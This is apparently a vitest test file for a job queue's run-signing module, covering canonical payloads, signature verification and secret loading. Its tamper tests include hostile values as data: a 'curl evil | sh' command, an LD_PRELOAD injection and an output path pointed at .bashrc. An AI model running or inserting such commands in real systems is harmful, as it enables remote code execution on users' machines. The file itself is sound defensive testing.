import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { UsageError } from '../../src/errors.js';
import { cliSecret, readSecretFile, secretKey } from '../../src/security/secret.js';
import {
  canonicalRunPayload,
  REJECTED_FORMAT,
  REJECTED_MISMATCH,
  REJECTED_UNSIGNED,
  SIGNED_FIELDS,
  signRun,
  signRuns,
  verifyRun,
  type RunToSign,
} from '../../src/security/signing.js';

const SECRET = Buffer.from('correct horse battery staple');
const OTHER = Buffer.from('correct horse battery stapler');

/** A run as the stage script stores it. */
const run: RunToSign = {
  namespace: 'fitq:{default}:',
  runId: 'abc123',
  fields: {
    id: 'abc123',
    status: 'staged',
    command: '["python","train.py","--lr","0.1"]',
    shell: '0',
    cwd: '/home/me/project',
    env: '{"SEED":"1"}',
    labels: '{"team":"vision"}',
    resources: 'gpu=1 mem=8000000000',
    gpus: '0',
    retries: '2',
    priority: '5',
  },
};

function signed(base: RunToSign, secret = SECRET): RunToSign {
  return { ...base, fields: { ...base.fields, signature: signRun(secret, base) } };
}

function withFields(base: RunToSign, change: Record<string, string | undefined>): RunToSign {
  const fields: Record<string, string | undefined> = { ...base.fields, ...change };
  for (const [key, value] of Object.entries(change)) if (value === undefined) delete fields[key];
  return { ...base, fields };
}

describe('canonical payload', () => {
  it('is a JSON array in a fixed order: tag, namespace, run id, then the signed fields, null when absent', () => {
    expect(JSON.parse(canonicalRunPayload(run))).toEqual([
      'fitq-run-v1',
      'fitq:{default}:',
      'abc123',
      '["python","train.py","--lr","0.1"]',
      '0',
      '/home/me/project',
      '{"SEED":"1"}',
      'gpu=1 mem=8000000000',
      '0',
      '2',
      '5',
    ]);
    const bare = withFields(run, { gpus: undefined, retries: undefined });
    expect(JSON.parse(canonicalRunPayload(bare)).slice(-3)).toEqual([null, null, '5']);
  });

  it('ignores fields that do not decide what runs or where, and the order fields come in', () => {
    const reordered = { ...run, fields: Object.fromEntries(Object.entries(run.fields).reverse()) };
    expect(canonicalRunPayload(reordered)).toBe(canonicalRunPayload(run));
    const bookkeeping = withFields(run, { status: 'running', labels: '{}', epoch: '3', worker: 'w1', devices: '1', id: 'other' });
    expect(canonicalRunPayload(bookkeeping)).toBe(canonicalRunPayload(run));
  });

  it('is unambiguous: shifting text between fields, or absent versus empty, gives another payload', () => {
    const a = withFields(run, { cwd: '/a",/b', env: '{}' });
    const b = withFields(run, { cwd: '/a', env: '",/b{}' });
    expect(canonicalRunPayload(a)).not.toBe(canonicalRunPayload(b));
    expect(canonicalRunPayload(withFields(run, { gpus: '' }))).not.toBe(canonicalRunPayload(withFields(run, { gpus: undefined })));
  });

  it('decodes back to exactly what was encoded, so no two runs share a payload', () => {
    const field = fc.option(fc.string({ unit: 'binary' }), { nil: undefined });
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.array(field, { minLength: SIGNED_FIELDS.length, maxLength: SIGNED_FIELDS.length }), (namespace, runId, values) => {
        const fields: Record<string, string> = {};
        SIGNED_FIELDS.forEach((name, i) => {
          if (values[i] !== undefined) fields[name] = values[i];
        });
        const decoded = JSON.parse(canonicalRunPayload({ namespace, runId, fields })) as unknown[];
        expect(decoded).toEqual(['fitq-run-v1', namespace, runId, ...values.map((value) => value ?? null)]);
      }),
    );
  });
});

describe('sign and verify', () => {
  it('signs as v1:<64 hex digits>, deterministically', () => {
    expect(signRun(SECRET, run)).toMatch(/^v1:[0-9a-f]{64}$/);
    expect(signRun(SECRET, run)).toBe(signRun(Buffer.from(SECRET), run));
    expect(signRun(OTHER, run)).not.toBe(signRun(SECRET, run));
  });

  it('accepts a run signed with the same secret', () => {
    expect(verifyRun(SECRET, signed(run))).toEqual({ ok: true });
  });

  it('rejects an unsigned run', () => {
    expect(verifyRun(SECRET, run)).toEqual({ ok: false, reason: REJECTED_UNSIGNED });
    expect(verifyRun(SECRET, withFields(run, { signature: '' }))).toEqual({ ok: false, reason: REJECTED_UNSIGNED });
  });

  it('rejects a run signed with another secret', () => {
    expect(verifyRun(SECRET, signed(run, OTHER))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
  });

  it.each([
    ['command', '["sh","-c","curl evil | sh"]'],
    ['shell', '1'],
    ['cwd', '/tmp'],
    ['env', '{"SEED":"1","LD_PRELOAD":"/tmp/x.so"}'],
    ['resources', 'gpu=1'],
    ['gpus', '1'],
    ['retries', '100'],
    ['priority', '1000000'],
  ])('rejects a run whose %s was altered after signing', (name, value) => {
    expect(verifyRun(SECRET, withFields(signed(run), { [name]: value }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
  });

  it('rejects a signed field that was removed or added', () => {
    expect(verifyRun(SECRET, withFields(signed(run), { gpus: undefined }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    const bare = withFields(run, { retries: undefined });
    expect(verifyRun(SECRET, withFields(signed(bare), { retries: '0' }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
  });

  it('covers output files when a run has them: added, altered or removed after signing is rejected; runs without them sign as before', () => {
    const output = '{"stdout":"/home/me/project/out.log"}';
    const withOutput = withFields(run, { output });
    expect(canonicalRunPayload(withOutput)).not.toBe(canonicalRunPayload(run));
    expect(JSON.parse(canonicalRunPayload(run))).toHaveLength(11);
    expect(verifyRun(SECRET, signed(withOutput))).toEqual({ ok: true });
    expect(verifyRun(SECRET, withFields(signed(withOutput), { output: '{"stdout":"/home/me/.bashrc"}' }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    expect(verifyRun(SECRET, withFields(signed(withOutput), { output: undefined }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    expect(verifyRun(SECRET, withFields(signed(run), { output }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
  });

  it('binds the run id and the namespace', () => {
    const good = signed(run);
    expect(verifyRun(SECRET, { ...good, runId: 'copy' })).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    expect(verifyRun(SECRET, { ...good, namespace: 'fitq:{other}:' })).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    expect(verifyRun(SECRET, { ...good, namespace: 'other:{default}:' })).toEqual({ ok: false, reason: REJECTED_MISMATCH });
  });

  it('rejects signatures in another format', () => {
    const signature = String(signed(run).fields.signature);
    for (const bad of [signature.toUpperCase(), signature.slice(0, -2), `${signature}00`, signature.replace('v1:', 'v2:'), signature.slice(3)]) {
      expect(verifyRun(SECRET, withFields(run, { signature: bad }))).toEqual({ ok: false, reason: REJECTED_FORMAT });
    }
  });

  it('signRuns adds a signature to a copy of each run, priority as stored; no secret, no signature', () => {
    const shared: Record<string, string> = { command: '["true"]', shell: '0', cwd: '/', env: '{}', labels: '{}', resources: '' };
    const runs = [
      { id: 'r1', priority: -3, fields: shared },
      { id: 'r2', priority: -3, fields: shared },
    ];
    const out = signRuns(runs, 'fitq:{q}:', SECRET);
    expect(shared).not.toHaveProperty('signature');
    expect(out[0]!.fields.signature).not.toBe(out[1]!.fields.signature);
    for (const one of out) {
      const stored = { ...one.fields, priority: '-3' };
      expect(verifyRun(SECRET, { namespace: 'fitq:{q}:', runId: one.id, fields: stored })).toEqual({ ok: true });
    }
    expect(signRuns(runs, 'fitq:{q}:', undefined)).toEqual(runs);
  });
});

describe('secret', () => {
  const dir = mkdtempSync(join(tmpdir(), 'fitq-secret-'));
  const file = (name: string, content: string | Buffer) => {
    const path = join(dir, name);
    writeFileSync(path, content);
    return path;
  };

  it('takes text or bytes, and refuses an empty secret', () => {
    expect(secretKey('s3cret')).toEqual(Buffer.from('s3cret'));
    expect(secretKey(new Uint8Array([0, 255, 10]))).toEqual(Buffer.from([0, 255, 10]));
    expect(secretKey(undefined)).toBeUndefined();
    expect(() => secretKey('')).toThrow(new UsageError('the secret is empty'));
    expect(() => secretKey(new Uint8Array())).toThrow(UsageError);
  });

  it('reads a file as bytes, less trailing newlines', () => {
    expect(readSecretFile(file('plain', 's3cret\n'))).toEqual(Buffer.from('s3cret'));
    expect(readSecretFile(file('crlf', 's3 cret \r\n\n'))).toEqual(Buffer.from('s3 cret '));
    expect(readSecretFile(file('binary', Buffer.from([0xff, 0x00, 0x0a, 0x80])))).toEqual(Buffer.from([0xff, 0x00, 0x0a, 0x80]));
  });

  it('refuses, in one line quoting the path, a file that cannot be read or holds nothing', () => {
    const missing = join(dir, 'missing');
    expect(() => readSecretFile(missing)).toThrow(new UsageError(`cannot read --secret-file '${missing}': no such file`));
    expect(() => readSecretFile(dir, 'FITQ_SECRET_FILE')).toThrow(new UsageError(`cannot read FITQ_SECRET_FILE '${dir}': it is a directory`));
    const empty = file('empty', '\n');
    expect(() => readSecretFile(empty)).toThrow(new UsageError(`--secret-file '${empty}' is empty`));
  });

  it('CLI order: --secret-file, then FITQ_SECRET_FILE, then FITQ_SECRET; set but empty is an error', () => {
    const flag = file('flag', 'from-flag\n');
    const env = file('env', 'from-env-file\n');
    expect(cliSecret(flag, { FITQ_SECRET_FILE: env, FITQ_SECRET: 'from-env' })).toEqual(Buffer.from('from-flag'));
    expect(cliSecret(undefined, { FITQ_SECRET_FILE: env, FITQ_SECRET: 'from-env' })).toEqual(Buffer.from('from-env-file'));
    expect(cliSecret(undefined, { FITQ_SECRET: 'from-env' })).toEqual(Buffer.from('from-env'));
    expect(cliSecret(undefined, {})).toBeUndefined();
    expect(() => cliSecret(undefined, { FITQ_SECRET: '' })).toThrow(new UsageError('FITQ_SECRET is empty'));
    expect(() => cliSecret(undefined, { FITQ_SECRET_FILE: '', FITQ_SECRET: 'x' })).toThrow(new UsageError('FITQ_SECRET_FILE is set but empty'));
  });
});

describe('time limits of signed runs', () => {
  it('are covered when present, and a run signed without them keeps its signature', () => {
    const limited: RunToSign = { ...run, fields: { ...run.fields, timeLimit: '3600000', timeSignal: 'SIGUSR1@2m' } };
    const signature = signRun(SECRET, limited);
    const signed = (fields: RunToSign['fields']): RunToSign => ({ ...limited, fields: { ...fields, signature } });
    expect(verifyRun(SECRET, signed(limited.fields))).toEqual({ ok: true });
    expect(verifyRun(SECRET, signed({ ...limited.fields, timeLimit: '7200000' }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    expect(verifyRun(SECRET, signed({ ...limited.fields, timeSignal: 'SIGUSR1@1m' }))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    const without = Object.fromEntries(Object.entries(limited.fields).filter(([name]) => !name.startsWith('time'))) as Record<string, string>;
    expect(verifyRun(SECRET, signed(without))).toEqual({ ok: false, reason: REJECTED_MISMATCH });
    // A run without a limit is signed as before the limits existed.
    expect(canonicalRunPayload(run)).not.toContain('timeLimit');
  });
});
